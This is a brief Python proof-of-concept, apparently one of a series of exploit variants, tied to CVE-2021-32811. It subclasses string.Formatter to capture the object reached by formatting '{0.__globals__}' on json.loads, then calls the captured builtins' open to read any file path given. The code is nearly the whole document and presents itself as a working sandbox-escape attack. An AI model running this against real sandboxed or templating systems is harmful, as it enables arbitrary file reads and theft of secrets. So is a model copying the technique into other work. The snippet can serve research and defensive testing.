# The same by a subclass, which catches the object on its way to the text.
# after: read
# source: CVE-2021-32811 (GHSA-g4gq-j4p2-j8fr)
import json
from string import Formatter
class Catch(Formatter):
    def format_field(self, value, spec):
        self.caught = value
        return ""
def attack(path, **_):
    catch = Catch()
    catch.format("{0.__globals__}", json.loads)
    return {"text": catch.caught["__builtins__"]["open"](path).read()}
